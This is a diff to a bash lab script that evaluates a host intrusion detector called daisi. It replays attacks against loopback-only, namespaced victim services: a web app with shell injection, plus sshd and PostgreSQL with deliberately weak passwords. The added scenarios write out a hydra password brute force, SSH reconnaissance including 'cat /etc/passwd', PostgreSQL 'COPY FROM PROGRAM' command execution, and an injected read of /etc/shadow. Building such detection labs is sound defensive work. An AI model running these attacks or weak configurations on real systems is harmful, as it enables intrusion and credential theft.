@@ -1,7 +1,7 @@
 #!/usr/bin/env bash
 # The host lab: a victim service with a flaw, a benign workload, and attack
 # scenarios through the flaw with real programs, watched by a daisi node
-# whose host baselines learn first. Run as root (eBPF, mount namespace).
+# whose host baselines learn first. Run as root (eBPF, namespaces).
 #
 #   lab/host.sh run OUT [--learn 60s] [--benign 120s] [--scenarios a,b,...]
 #       learns for --learn while the benign workload runs, keeps the
@@ -10,20 +10,24 @@
 #       log, then prints `daisi eval host` for them.
 #   lab/host.sh scenarios     the scenario names
 #
-# The victim (lab/host/victim.py: a web application whose /ping passes its
-# parameter to a shell), a scheduler running a periodic backup and an
-# administrator running everyday commands (uptime, df, ps, ls, dpkg, id,
-# who) and rotating the application's log run in a mount namespace of
-# their own where /etc/cron.d, /root/.ssh, the log directory and the web
-# root are scratch tmpfs: persistence writes land there, never on this
-# machine. All traffic is on 127.0.0.1; every request and loop is bounded
-# in count and time.
+# The victim services (lab/host/services.sh) run in mount and pid
+# namespaces of their own, where the persistence paths, homes, account
+# files and data directories are scratch copies: nothing lands on this
+# machine, and everything ends with the lab. They are a web application
+# whose /ping passes its parameter to a shell (lab/host/victim.py), sshd
+# with an administrator's key login and a support account with a weak
+# password, PostgreSQL whose superuser has a weak password, and a
+# scheduler (backups, a database dump, log rotation). The benign workload
+# is the application's traffic with variety, its database queries, and an
+# administrator's SSH sessions running everyday commands (uptime, df, ps,
+# ls, dpkg, id, who, tail). All traffic is on 127.0.0.1; every request
+# and loop is bounded in count and time.
 #
 # Environment: DAISI_BIN (default target/release/daisi, else debug).
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
-SCENARIOS=(reverse_shell credential_theft persistence_cron persistence_ssh privilege_escalation exfiltration fileless miner seen_programs_only)
+SCENARIOS=(reverse_shell credential_theft persistence_cron persistence_ssh privilege_escalation exfiltration fileless miner seen_programs_only ssh_weak_password database_command_execution)
 
 log() { printf '[host-lab] %s\n' "$*" >&2; }
 die() { log "error: $*"; exit 1; }
@@ -39,6 +43,25 @@ fi
 free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
 urlencode() { python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1]))' "$1"; }
 
+SUPPORT_PASSWORD=support1
+PG_PASSWORD=postgres
+SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=10)
+
+# A query to the lab's database, bounded.
+sql() { PGPASSWORD="$PG_PASSWORD" PGCONNECT_TIMEOUT=10 timeout 20 psql -qAt -h 127.0.0.1 -p "$PGPORT" -U postgres -d postgres -c "$1"; }
+# One administrator session over SSH (key login), bounded.
+admin() { timeout 20 ssh "${SSH_OPTS[@]}" -o BatchMode=yes -i "$LAB/admin_key" -p "$SSHPORT" labadmin@127.0.0.1 "$1"; }
+# The administrator's everyday commands, one session every 1.5 s in turn,
+# until killed (at most an hour).
+admin_sessions() {
+  local cmds=("uptime" "df -h" "ps aux" "ls -la /var/log" "dpkg -l bash" "id" "who" "tail -n 5 /var/log/daisi-lab/app.log")
+  local i
+  for i in $(seq 2400); do
+    admin "${cmds[$((i % ${#cmds[@]}))]}" >/dev/null 2>&1 || true
+    sleep 1.5
+  done
+}
+
 # One request to the victim, bounded.
 get() { curl -s -o /dev/null --max-time 25 "http://127.0.0.1:$VPORT$1" || true; }
 # A command through the flaw.
@@ -49,13 +72,15 @@ inject() { get "/ping?host=$(urlencode "localhost; $1")"; }
 benign() {
   local until="$1" n=0
   while [ "$(date +%s)" -lt "$until" ] && [ $n -lt 100000 ]; do
-    case $((RANDOM % 6)) in
+    case $((RANDOM % 8)) in
       0) get / ;;
       1) get /list ;;
       2) get /time ;;
       3) get "/page?name=index.html" ;;
       4) get "/page?name=about.html" ;;
       5) get "/ping?host=host$((RANDOM % 50)).example" ;;
+      6) sql "INSERT INTO items (name) VALUES ('item$RANDOM')" >/dev/null 2>&1 || true ;;
+      7) sql "SELECT count(*), max(at) FROM items" >/dev/null 2>&1 || true ;;
     esac
     n=$((n + 1))
     sleep 0.05
@@ -74,6 +99,17 @@ scenario() { # $1 = name: the attack's steps through the flaw
     miner) inject "timeout 3 sh -c 'while :; do :; done'" ;;
     # Programs the baseline has seen (the shell), on a file it has not.
     seen_programs_only) inject "read line < /etc/shadow" ;;
+    # A weak password guessed over SSH, then a session as that account.
+    ssh_weak_password)
+      timeout 60 hydra -q -f -t 4 -l support -P "$LAB/words" -s "$SSHPORT" 127.0.0.1 ssh >/dev/null 2>&1 || true
+      SSH_ASKPASS="$LAB/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=: timeout 20 setsid -w ssh "${SSH_OPTS[@]}" \
+        -o PubkeyAuthentication=no -o PreferredAuthentications=password -p "$SSHPORT" support@127.0.0.1 \
+        'id; uname -a; ls -la /home; cat /etc/passwd' </dev/null >/dev/null 2>&1 || true ;;
+    # The database superuser's weak password guessed, then a command run
+    # by the database server (COPY ... FROM PROGRAM).
+    database_command_execution)
+      timeout 60 hydra -q -f -t 2 -l postgres -P "$LAB/words" -s "$PGPORT" 127.0.0.1 postgres >/dev/null 2>&1 || true
+      sql "CREATE TEMP TABLE o (line text); COPY o FROM PROGRAM 'id; uname -a'; SELECT * FROM o" >/dev/null 2>&1 || true ;;
     *) die "no scenario $1" ;;
   esac
 }
@@ -91,7 +127,7 @@ run() {
   [ -n "$out" ] || die "usage: lab/host.sh run OUT [--learn 60s] [--benign 120s] [--scenarios a,b]"
   [ "$(id -u)" -eq 0 ] || die "the host lab needs root (eBPF, a mount namespace)"
   [ -n "$BIN" ] || die "no daisi binary: build it (cargo build --release) or set DAISI_BIN"
-  for t in python3 curl unshare bash su find timeout; do
+  for t in python3 curl unshare bash su find timeout ssh ssh-keygen hydra psql pg_dump setpriv openssl; do
     command -v "$t" >/dev/null || die "missing tool: $t (run scripts/setup.sh)"
   done
   local list=("${SCENARIOS[@]}")
@@ -102,8 +138,13 @@ run() {
   rm -rf "$out/baselines"
   VPORT=$(free_port)
   APORT=$(free_port)
+  SSHPORT=$(free_port)
+  PGPORT=$(free_port)
   PIDS=()
-  trap 'kill "${PIDS[@]}" 2>/dev/null || true; wait 2>/dev/null || true' EXIT
+  VICTIM=""
+  # The services' namespace ends with its first process: SIGKILL, as its
+  # init ignores SIGTERM from outside.
+  trap 'kill "${PIDS[@]}" 2>/dev/null || true; [ -z "$VICTIM" ] || kill -KILL "$VICTIM" 2>/dev/null || true; wait 2>/dev/null || true' EXIT
 
   # The attacker's listener (loopback): takes what is sent, bounded.
   python3 - "$APORT" <<'EOF' &
@@ -122,34 +163,31 @@ while time.time() < end:
 EOF
   PIDS+=($!)
 
-  # The victim and its scheduler, in a mount namespace of their own.
-  unshare -m --propagation private bash -c '
-    set -e
-    mkdir -p /srv/daisi-lab
-    for d in /etc/cron.d /root/.ssh /srv/daisi-lab; do mkdir -p "$d"; mount -t tmpfs -o size=8m lab "$d"; done
-    echo "<h1>daisi lab</h1>" > /srv/daisi-lab/index.html
-    echo "about" > /srv/daisi-lab/about.html
-    # The scheduler: a backup every 5 s while the victim runs (at most an
-    # hour); $$ is the victim once this shell execs it.
-    (for i in $(seq 720); do kill -0 $$ 2>/dev/null || exit 0; tar czf /tmp/daisi-lab-backup.tgz -C /srv daisi-lab 2>/dev/null; sleep 5; done) </dev/null >/dev/null 2>&1 &
-    # An administrator: everyday commands in turn, one a second, and the
-    # application log rotated (at most an hour).
-    mkdir -p /var/log/daisi-lab && mount -t tmpfs -o size=8m lab /var/log/daisi-lab
-    (for i in $(seq 3600); do
-       kill -0 $$ 2>/dev/null || exit 0
-       case $((i % 8)) in
-         0) uptime ;; 1) df -h ;; 2) ps aux ;; 3) ls -la /var/log ;;
-         4) dpkg -l bash ;; 5) id ;; 6) who ;;
-         7) mv /var/log/daisi-lab/app.log /var/log/daisi-lab/app.log.1 2>/dev/null; date >> /var/log/daisi-lab/app.log ;;
-       esac
-       sleep 1
-     done) </dev/null >/dev/null 2>&1 &
-    exec python3 lab/host/victim.py "$0" /srv/daisi-lab
-  ' "$VPORT" &
+  # The victim services (lab/host/services.sh), in mount and pid
+  # namespaces of their own, and what they need from here: the SSH host key, the
+  # administrator's key, the weak passwords.
+  local lab="$out/lab"
+  rm -rf "$lab"
+  mkdir -p "$lab"
+  chmod 700 "$lab"
+  ssh-keygen -q -t ed25519 -N '' -f "$lab/ssh_host_ed25519_key"
+  ssh-keygen -q -t ed25519 -N '' -f "$lab/admin_key"
+  echo "$SUPPORT_PASSWORD" >"$lab/support.password"
+  echo "$PG_PASSWORD" >"$lab/postgres.password"
+  printf '#!/bin/sh\necho %s\n' "$SUPPORT_PASSWORD" >"$lab/askpass"
+  chmod 700 "$lab/askpass"
+  # The attacker's word list: common passwords, the two weak ones among them.
+  printf '%s\n' 123456 password admin letmein qwerty "$SUPPORT_PASSWORD" welcome "$PG_PASSWORD" >"$lab/words"
+  unshare -m -p --fork --kill-child --mount-proc --propagation private lab/host/services.sh "$lab" "$VPORT" "$SSHPORT" "$PGPORT" &
   local victim=$!
-  PIDS+=($victim)
-  for _ in $(seq 100); do curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" && break; sleep 0.1; done
+  VICTIM=$victim
+  LAB="$lab"
+  for _ in $(seq 200); do curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" && break; sleep 0.1; done
   curl -fs -o /dev/null "http://127.0.0.1:$VPORT/" || die "the victim did not start"
+  for _ in $(seq 100); do sql "SELECT 1" >/dev/null 2>&1 && break; sleep 0.1; done
+  sql "CREATE TABLE items (id serial PRIMARY KEY, name text, at timestamptz DEFAULT now())" >/dev/null \
+    || die "PostgreSQL did not start: $(tail -5 "$lab/postgres.log" "$lab/initdb.log")"
+  admin uptime >/dev/null || die "sshd did not take the administrator's key: $(tail -5 "$lab/sshd.log")"
 
   cat >"$out/node.toml" <<EOF
 [node]
@@ -181,6 +219,8 @@ EOF
 
   phase() { printf '{"phase":"%s","kind":"%s","start_ns":%s,"end_ns":%s}\n' "$1" "$2" "$3" "$4" >>"$out/phases.jsonl"; }
   log "learning for ${learn}s (benign workload)"
+  admin_sessions &
+  PIDS+=($!)
   local t0; t0=$(now_ns)
   benign $(($(date +%s) + learn + 2))
   phase learning learning "$t0" "$(now_ns)"
